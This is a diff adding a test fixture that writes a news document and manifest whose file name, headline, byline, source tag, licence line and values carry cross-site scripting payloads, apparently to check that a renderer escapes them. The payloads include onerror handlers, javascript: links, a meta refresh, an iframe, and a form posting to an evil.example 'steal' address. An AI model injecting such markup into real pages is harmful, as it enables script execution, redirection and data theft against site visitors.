@@ -62,6 +62,43 @@ def hostile_corpus(folder: Path) -> Path:
     return folder
 
 
+# Markup where the first audit found it ran: in a file name, a headline, a byline, a source tag, a licence line and
+# manifest values, plus bare links and Markdown links in the text. Each payload either sets window.__pwned, opens a
+# dialog, requests something from evil.example, redirects the page or hides it (a <style> marked "hostile").
+HOSTILE_NAME = '<meta http-equiv=refresh content="1;url=http:evil.example"><img src=x onerror=alert(1)>'
+HOSTILE_METADATA_TEXT = """<style>body{display:none} /* hostile */</style> The siege of <a href="javascript:window.__pwned='link'">Raqqa</a> ends
+
+By Jane <img src=x onerror="window.__pwned='byline'"> Smith
+
+Iraqi forces said on Friday that they had taken the city, see http://evil.example/track or www.evil.example and write to spy@evil.example, ![pixel](http://evil.example/pixel.png) and [click here](javascript:alert('md')) for more.
+
+<form action="http://evil.example/steal"><input name=q></form> "We won the battle for the city," said the commander of the forces.
+
+(Source: <b onmouseover="window.__pwned='via'">Reuters</b> http://evil.example/via)
+
+\u00a9 2017 <iframe src="http://evil.example/frame"></iframe> Daily
+"""
+HOSTILE_MANIFEST = {
+    "genre": "<script>window.__pwned='genre'</script><img src=http://evil.example/genre.png> opinion",
+    "genre_source": "<a href=\"javascript:window.__pwned='source'\">reader</a>\n\n# heading [x](http://evil.example)",
+}
+
+
+def hostile_metadata_corpus(folder: Path) -> Path:
+    """The hostile corpus plus a document whose file name, headline, byline, source tag and licence line are markup,
+    and a manifest whose values are."""
+    import csv
+
+    hostile_corpus(folder)
+    (folder / f"{HOSTILE_NAME}.txt").write_text(HOSTILE_METADATA_TEXT, encoding="utf-8")
+    with (folder / "manifest.csv").open("w", newline="", encoding="utf-8") as out:
+        writer = csv.writer(out)
+        writer.writerow(["doc_id", *HOSTILE_MANIFEST])
+        for doc_id in sorted(p.stem for p in folder.glob("*.txt")):
+            writer.writerow([doc_id, *HOSTILE_MANIFEST.values()])
+    return folder
+
+
 def dated_corpus(folder: Path) -> Path:
     """A corpus of one seed article and a wire story dated "in the past week" and "last week"."""
     folder.mkdir(parents=True, exist_ok=True)
